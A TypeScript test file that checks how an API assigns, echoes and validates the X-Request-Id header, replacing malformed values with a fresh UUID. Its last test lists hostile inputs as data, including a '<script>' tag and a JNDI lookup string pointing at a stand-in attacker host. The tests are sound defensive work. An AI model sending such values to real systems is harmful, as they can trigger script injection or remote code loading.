import { useApp } from '../../testing/app/use-app.ts';

const UUID = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;

describe('X-Request-Id', () => {
  const app = useApp();
  const asked = (path: string, given?: string) =>
    app.raw({ path, headers: given === undefined ? {} : { 'X-Request-Id': given } });

  it('names each answer anew', async () => {
    const ids = [await asked('/api/rental'), await asked('/api/rental')].map(({ headers }) => headers['x-request-id']);
    expect(ids).toEqual([expect.stringMatching(UUID), expect.stringMatching(UUID)]);
    expect(ids[0]).not.toBe(ids[1]);
  });

  it.each(['/api/rental', '/api/docs-json', '/'])('is on every answer: %s', async (path) => {
    expect((await asked(path)).headers['x-request-id']).toMatch(UUID);
  });

  it.each(['/api/nothing', '/api/%zz', '/api/admin-session'])(
    'is the requestId of the error body: %s',
    async (path) => {
      const { headers, body } = await asked(path);
      expect(body).toMatchObject({ requestId: headers['x-request-id'] });
    },
  );

  it.each(['0b6f2a9e-3c1d-4f0e-9a53-2f6f5d1c7b1e', 'a', 'proxy-1:42.7_x', 'x'.repeat(64)])(
    'is kept when a proxy has given %s',
    async (given) => {
      const { headers, body } = await asked('/api/nothing', given);
      expect(headers['x-request-id']).toBe(given);
      expect(body).toMatchObject({ requestId: given });
    },
  );

  it.each(['', 'x'.repeat(65), '<script>', 'a b', 'a\tb', '"}', 'ä', 'a,b', '${jndi:ldap://evil.example}'])(
    'is replaced when what is given is hostile: %p',
    async (given) => {
      const { headers, body } = await asked('/api/nothing', given);
      expect(headers['x-request-id']).toMatch(UUID);
      expect(body).toMatchObject({ requestId: headers['x-request-id'] });
    },
  );
});
